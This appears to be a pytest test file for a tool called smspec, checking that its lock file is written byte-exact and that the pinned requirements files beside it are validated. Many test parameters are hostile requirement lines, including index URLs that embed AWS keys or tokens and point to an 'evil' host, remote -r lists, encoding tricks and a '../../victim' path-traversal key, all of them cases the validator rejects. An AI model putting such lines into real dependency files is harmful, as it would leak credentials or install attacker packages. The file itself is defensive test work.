"""The content of the lock file, to the byte, and of the files next to it."""

import json

import pytest

from smspec.cli.environment_lock import _is_written
from smspec.lock.environment_locking import hashed_requirements
from smspec.lock.image_locking import lock_text, locked
from smspec.lock.resolution import ResolvedFile
from smspec.organization.lock_content import lock_content
from smspec.spec.lock import Lock
from support.git_repository import commit, repository
from support.locked_packages import lock_packages
from support.small_job import BUILT, write_job
from support.smspec_command import smspec

HASH = f" \\\n    --hash=sha256:{'c' * 64}\n"
BASE = "python:3.12-slim-bookworm"


def test_lock_has_one_entry_a_line_in_order():
    lock = Lock(smspec="1.2.3", api_model="2026-01-01")
    text = lock_text(locked(lock, {"b:1": "sha256:1", "a:1": "sha256:2"}, {"requirements.txt": "sha256:3"}))
    assert text.splitlines(keepends=True) == [
        "{\n",
        '  "lock": 1,\n',
        '  "smspec": "1.2.3",\n',
        '  "api_model": "2026-01-01",\n',
        '  "images": {\n',
        '    "a:1": "sha256:2",\n',
        '    "b:1": "sha256:1"\n',
        "  },\n",
        '  "requirements": {\n',
        '    "requirements.txt": "sha256:3"\n',
        "  }\n",
        "}\n",
    ]


def validated(directory, content, requirements):
    """Return the errors of a job whose packages are locked with this content."""
    image = f'{{base: "{BASE}", python_requirements: requirements.txt, secrets: {{TOKEN: {{env: TOKEN}}}}}}'
    spec = BUILT.replace(f'{{base: "{BASE}"}}', image).replace("{epochs: 2}", "{}")
    (directory / "requirements.txt").write_text(requirements)
    spec = write_job(directory, spec, **{"src/train.py": "import numpy\n"})
    lock_packages(spec, content=content.encode())
    errors = json.loads(smspec("validate", "--format", "json").out)
    return [each["message"] for each in errors if each["severity"] == "error"]


@pytest.mark.parametrize(
    "line",
    [
        f"yev @ http://h/${{AWS_SECRET_ACCESS_KEY}}/yev-1.0-py3-none-any.whl{HASH}",
        f"yev @ http://h/${{TOKEN}}/yev-1.0-py3-none-any.whl{HASH}",  # of the author, for the index alone
        f"yev @ http://${{TOKEN}}@h/yev-1.0-py3-none-any.whl{HASH}",
        f"${{TOKEN}}{HASH}",
        f"yev=={'${'}A}}{HASH}",
        "--extra-index-url http://h/${AWS_SECRET_ACCESS_KEY}/\n",
        "--index-url=http://h/${PIP_INDEX_URL}\n",
        "-i http://${TOKEN}:${HOME}@h/\n",
        "--find-links http://h/$\\\n{AWS_SECRET_ACCESS_KEY}/\n",
        "--find-links http://h/ ${NETRC}\n",
        "  -f http://h/${AWS_PROFILE}\n",
        "--trusted-host ${A}${TOKEN}\n",
        f"yev @ http://h/${{TOKEN}}$x/yev-1.0-py3-none-any.whl{HASH}",
        "--index-url http://h/${${TOKEN}}\n",
        "# a comment \\\n${AWS_SECRET_ACCESS_KEY}\n",
        "--extra-index-url http://evil/${TOKEN}\n",
        "yev @ http://evil/ \\\n--index-url http://${TOKEN}@h/\n",
        " --index-url http://${TOKEN}@h/\n",
        "--index-url http://${TOKEN}@h/ -r http://evil/list\n",
        f"yev @ http://evil/\f--index-url http://${{TOKEN}}@h/{HASH}",
        "--index-url http://${TOKEN}@h/\r\n",
    ],
)
def test_lock_names_only_variables_of_its_author(tmp_path, monkeypatch, line):
    """An installer would replace it by a secret, and send it to a stranger."""
    monkeypatch.chdir(tmp_path)
    (found,) = validated(tmp_path, f"numpy==2.1.0{HASH}{line}", "--index-url http://${TOKEN}@h/\nnumpy\n")
    assert "line " in found


@pytest.mark.parametrize(
    "line",
    [
        "-r http://evil/list\n",
        " --requirement=http://evil/list\n",
        "-chttp://evil/list\n",
        "-e .\n",
        "#\r-r list\n",
        "--pre\n",
    ],
)
def test_lock_names_no_other_list(tmp_path, monkeypatch, line):
    monkeypatch.chdir(tmp_path)
    (found,) = validated(tmp_path, f"numpy==2.1.0{HASH}{line}", "numpy\n")
    assert "line 3" in found


@pytest.mark.parametrize("option", ["--index-url https://${TOKEN}@h/", "--find-links https://u:${TOKEN}@h/a", ""])
def test_lock_keeps_options_of_its_author(tmp_path, monkeypatch, option):
    monkeypatch.chdir(tmp_path)
    assert validated(tmp_path, f"{option}\nnumpy==2.1.0{HASH}", f"{option}\nnumpy\n") == []


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (f"numpy==2.1.1{HASH}", "`numpy` in another version"),
        (f"numpy==2.1.0{HASH}evil==1{HASH}", "`evil` in another version"),
        (f"evil==2.1.0{HASH}", "`evil` in another version"),
        ("", "`numpy` in another version"),
        (f"--index-url https://evil.org/simple\nnumpy==2.1.0{HASH}", "line 1"),
        (f"--index-url https://h/ --index-url https://evil.org\nnumpy==2.1.0{HASH}", "line 1"),
        ("numpy==2.1.0\n", "line 1"),
        (f"numpy==2.1.0 --index-url https://evil.org{HASH}", "line 1"),
        (f"numpy==2.1.0;python_version>'3'{HASH}", "`numpy` in another version"),
        (f"numpy >= 2{HASH}", "line 1"),
        (f"numpy[evil]==2.1.0{HASH}", "line 1"),
        (f"https://evil.org/numpy-2.1.0-py3-none-any.whl{HASH}", "line 1"),
        (f"numpy==2.1.0{HASH}    --hash=sha256:{'d' * 64}\n", "line 3"),
        (f"numpy==2.1.0 \\\nevil==1{HASH}", "line 2"),
        (f"numpy==2.1.0 \\\n    --hash=sha256:{'d' * 64} --index-url https://evil.org\n", "line 2"),
        (f"# a comment \\\nevil==1{HASH}numpy==2.1.0{HASH}", "`evil` in another version"),
        (f"# coding: utf-7\nnumpy==2.1.0{HASH}", "line 1"),
        (f"numpy==2.1.0{HASH}# -*- coding: unicode_escape\n", "line 3"),
        (f"--index-url https://h/ -r http://evil/list\nnumpy==2.1.0{HASH}", "line 1"),
        (f"\\-r http://evil/list\\\n\nnumpy==2.1.0{HASH}", "line 1"),
    ],
)
def test_locked_file_has_the_packages_of_the_lock(tmp_path, monkeypatch, content, said):
    """Who reviews smspec.lock reads names and versions there, and the digest says nothing of what is in the file."""
    monkeypatch.chdir(tmp_path)
    (found,) = validated(tmp_path, content, "--index-url https://h/\nnumpy\n")
    assert said in found


def test_package_from_an_address_is_compared_with_it(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    repository(tmp_path)
    wheel = "numpy @ https://{}/numpy-2.1.0-py3-none-any.whl" + HASH
    assert validated(tmp_path, wheel.format("h"), "numpy\n") == []
    commit(tmp_path)
    assert validated(tmp_path, wheel.format("evil.org"), "numpy\n") == []
    done = smspec("diff", "--base", "HEAD", ".")
    assert "2.1.0 from https://evil.org/numpy-2.1.0-py3-none-any.whl" in done.out


def test_url_of_a_file_is_never_expanded():
    """`%24` is `$` for a server, and nothing for an installer."""
    file = ResolvedFile(name="yev", version="1", url="http://h/${A}/$b/yev-1.whl", sha256="c" * 64, is_direct=True)
    assert "yev @ http://h/%24{A}/%24b/yev-1.whl " in hashed_requirements([file], [], base="b", python="3.12")


def test_path_in_place_of_a_key_is_rejected(tmp_path, monkeypatch):
    """A stranger's lock must not have `lock` remove a file elsewhere."""
    monkeypatch.chdir(tmp_path)
    assert validated(tmp_path, f"numpy==2.1.0{HASH}", "numpy\n") == []
    (tmp_path.parent / "victim.txt").write_text("kept\n")
    lock = tmp_path / "smspec.lock"
    text = lock.read_text()
    lock.write_text(text.replace('  "environments": {\n', '  "environments": {\n    "../../victim": {"base": "x"},\n'))
    assert "../../victim" in lock.read_text()
    done = smspec("lock", ".", "--digest", f"{BASE}=sha256:{'b' * 64}")
    assert (done.status, "is not the key of a locked environment" in done.err) == (1, True), done
    assert (tmp_path.parent / "victim.txt").read_text() == "kept\n"


@pytest.mark.parametrize("target", ["/dev/zero", "../outside.txt"])
def test_link_in_place_of_a_locked_file_is_not_read(tmp_path, target):
    lock_packages(write_job(tmp_path / "job", BUILT.replace(f'"{BASE}"', f'"{BASE}", python_packages: [numpy>=2]')))
    (file,) = (tmp_path / "job/smspec.lock.d").iterdir()
    entry = lock_content("smspec.lock", (tmp_path / "job/smspec.lock").read_bytes()).environments[file.stem]
    lock = str(tmp_path / "job/smspec.lock")
    assert _is_written(lock, file.stem, entry)
    (tmp_path / "job/outside.txt").write_bytes(file.read_bytes())
    file.unlink()
    file.symlink_to(target)
    assert not _is_written(lock, file.stem, entry)
